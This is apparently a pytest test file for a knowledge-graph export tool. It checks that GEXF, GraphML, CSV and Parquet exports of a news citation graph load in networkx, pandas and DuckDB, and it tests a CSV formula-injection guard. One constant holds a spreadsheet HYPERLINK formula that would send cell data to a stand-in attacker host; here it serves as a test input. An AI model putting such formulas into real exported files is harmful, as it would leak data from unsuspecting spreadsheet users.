"""kg.export: every export read back by its consumer (networkx, pandas, DuckDB)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

from kg.errors import KgError
from kg.export import export, neutralise
from kg.rdf import write_rdf
from kg.store import write_store
from tests.test_query import A1, A2, A3, A4, query_graph

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    g = query_graph()
    g.nodes[A2]["title"] = HOSTILE  # text from an article that looks like a formula
    folder = tmp_path_factory.mktemp("export")
    write_rdf(g, folder / "graph.ttl")
    write_store(folder / "graph.ttl")
    export(folder, ["gexf", "graphml", "csv", "parquet"])
    return folder


def test_gexf_opens_in_networkx_with_a_timeline(out: Path) -> None:
    g = nx.read_gexf(out / "export" / "graph.gexf")
    assert g.graph["mode"] == "dynamic"
    text = (out / "export" / "graph.gexf").read_text()
    assert 'timeformat="date"' in text and "lastmodifieddate" not in text
    articles = {n: d for n, d in g.nodes(data=True) if d["type"] == "article"}
    assert len(articles) == 4
    assert articles[A1]["start"] == "2024-09-12" and articles[A3]["start"] == "2024-09-11"
    assert "start" not in articles[A4]  # undated: always there
    # an entity appears with the first dated article that cites or mentions it
    assert g.nodes["person:kim-jong-un"]["start"] == "2024-09-10"
    assert g.nodes["outlet:bloomberg"]["start"] == "2024-09-10"
    cites = [(u, v, d) for u, v, d in g.edges(data=True) if d["relation"] == "cites"]
    assert (A1, "outlet:dialog-ua") in {(u, v) for u, v, _ in cites}
    assert all(d["start"] == "2024-09-12" for u, _, d in cites if u == A1)
    weights = {(u, v): d["weight"] for u, v, d in g.edges(data=True)
               if d["relation"] == "cites_outlet"}
    assert weights[("outlet:dialog-ua", "outlet:bloomberg")] == 2


def test_graphml_opens_in_networkx(out: Path) -> None:
    g = nx.read_graphml(out / "export" / "graph.graphml")
    assert g.number_of_nodes() == 12
    assert g.nodes["outlet:charter97"]["label"] == "Charter97"
    types = sorted({d["relation"] for _, _, d in g.edges(data=True)})
    assert types == ["cites", "cites_outlet", "mentions", "published_by"]


def test_csv_opens_in_pandas_and_formulas_are_text(out: Path) -> None:
    pd = pytest.importorskip("pandas")
    outlets = pd.read_csv(out / "export" / "outlet-citations.csv")
    assert list(outlets.columns) == ["citer", "citer_name", "cited", "cited_name", "weight"]
    row = outlets[(outlets.citer == "outlet:dialog-ua") & (outlets.cited == "outlet:bloomberg")]
    assert row.weight.tolist() == [2]
    attributions = pd.read_csv(out / "export" / "attributions.csv")
    assert len(attributions) == 7
    assert set(attributions.kind) == {"said", "reported", "citing", "according_to"}
    headlines = set(attributions.headline)
    assert "'" + HOSTILE in headlines and HOSTILE not in headlines
    with (out / "export" / "attributions.csv").open(newline="") as f:
        for row in csv.reader(f):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_neutralise() -> None:
    assert [neutralise(x) for x in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "ok", 5)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "ok", 5
    ]


def test_parquet_opens_in_pandas_and_duckdb(out: Path) -> None:
    pd = pytest.importorskip("pandas")
    duckdb = pytest.importorskip("duckdb")
    folder = out / "export"
    articles = pd.read_parquet(folder / "articles.parquet")
    assert sorted(articles.article) == sorted([A1, A2, A3, A4])
    assert HOSTILE in set(articles.headline)  # Parquet keeps the text as it is
    rows: Any = duckdb.sql(
        f"SELECT source, count(*) AS n FROM '{folder / 'attributions.parquet'}' "
        "GROUP BY source ORDER BY n DESC, source"
    ).fetchall()
    assert rows[0] == ("outlet:bloomberg", 2)
    mentions = duckdb.sql(
        f"SELECT a.headline, m.entity_name FROM '{folder / 'mentions.parquet'}' m "
        f"JOIN '{folder / 'articles.parquet'}' a USING (article) WHERE m.entity_type = 'place' "
        "ORDER BY a.headline"
    ).fetchall()
    assert mentions == [("Analysis", "Pyongyang"), ("Kim goes east", "Pyongyang")]
    entities = pd.read_parquet(folder / "entities.parquet")
    assert set(entities.type) == {"outlet", "person", "organization", "place"}
    assert pd.read_parquet(folder / "outlet-citations.parquet").weight.sum() == 8


def test_exports_are_deterministic(out: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    export(out, ["gexf", "graphml", "csv", "parquet"], again)
    for path in (out / "export").iterdir():
        assert (again / path.name).read_bytes() == path.read_bytes(), path.name


def test_unknown_format(out: Path) -> None:
    with pytest.raises(KgError, match="unknown export format 'xls'"):
        export(out, ["xls"])


def test_kg_export_command(out: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from kg.cli import cli

    result = CliRunner().invoke(cli, ["export", str(out), "--to", "csv", "--to", "gexf",
                                      "-o", str(tmp_path / "x")])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "x").iterdir()) == [
        "attributions.csv", "graph.gexf", "outlet-citations.csv"
    ]
